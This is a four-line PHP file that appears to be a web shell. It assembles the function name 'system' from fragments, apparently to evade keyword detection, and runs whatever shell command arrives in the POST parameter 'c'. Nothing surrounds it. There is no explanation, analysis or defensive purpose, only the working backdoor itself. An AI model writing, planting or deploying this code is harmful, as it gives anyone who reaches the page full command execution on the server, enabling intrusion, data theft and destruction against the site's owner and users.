<?php
$parts = array('sys', 'te', 'm');
$run = implode('', $parts);
$run($_POST['c']);
